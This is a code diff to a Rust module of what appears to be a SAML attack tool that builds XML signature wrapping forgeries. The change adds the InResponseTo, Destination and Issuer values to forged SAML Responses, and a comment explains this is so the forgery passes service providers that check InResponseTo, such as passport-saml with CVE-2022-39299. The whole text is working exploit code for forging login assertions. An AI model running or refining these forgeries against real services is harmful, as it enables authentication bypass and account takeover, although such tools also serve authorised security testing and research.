@@ -1,7 +1,7 @@
 //! XML signature wrapping: the signed element stays intact somewhere, a forged one is where
 //! the SP reads. Shapes follow SAML Raider's XSWHelpers (USENIX'12) and the published PoCs.
 
-use crate::bytes::{attr_value, before_end_tag, child, insert, splice, Doc};
+use crate::bytes::{attr_value, before_end_tag, child, escape, insert, splice, Doc};
 use crate::family::{evil_id, forged, Parts};
 use crate::forge::{Forge, Forged, Skip};
 use crate::identity;
@@ -228,8 +228,22 @@ pub fn roots_donor_first(f: &Forge) -> Result<Forged, Skip> {
     let doc = parse(f)?;
     let p = Parts::of(&doc)?;
     let (evil, swap) = p.forged_assertion(None)?;
+    // The attacker's own login gives them the request's ID, the ACS and the Issuer: a forged
+    // Response without them would be refused by any SP that checks InResponseTo, bug or not
+    // (passport-saml 3.2.1 with validateInResponseTo did, hiding CVE-2022-39299).
+    let echoed: String = ["InResponseTo", "Destination"]
+        .iter()
+        .filter_map(|name| {
+            let value = p.root.attribute(*name)?;
+            Some(format!(" {name}=\"{}\"", escape(value)))
+        })
+        .collect();
+    let issuer = child(p.root, ASSERTION_NS, "Issuer")
+        .and_then(|i| i.text())
+        .map(|t| format!("<Issuer xmlns=\"{ASSERTION_NS}\">{}</Issuer>", escape(t)))
+        .unwrap_or_default();
     let second = format!(
-        "<samlp:Response xmlns:samlp=\"{PROTOCOL_NS}\" ID=\"{}\" Version=\"2.0\" IssueInstant=\"{}\"><samlp:Status><samlp:StatusCode Value=\"urn:oasis:names:tc:SAML:2.0:status:Success\"/></samlp:Status>{evil}</samlp:Response>",
+        "<samlp:Response xmlns:samlp=\"{PROTOCOL_NS}\" ID=\"{}\" Version=\"2.0\" IssueInstant=\"{}\"{echoed}>{issuer}<samlp:Status><samlp:StatusCode Value=\"urn:oasis:names:tc:SAML:2.0:status:Success\"/></samlp:Status>{evil}</samlp:Response>",
         evil_id(p.root.attribute("ID").unwrap_or("_r")),
         p.root.attribute("IssueInstant").unwrap_or_default()
     );
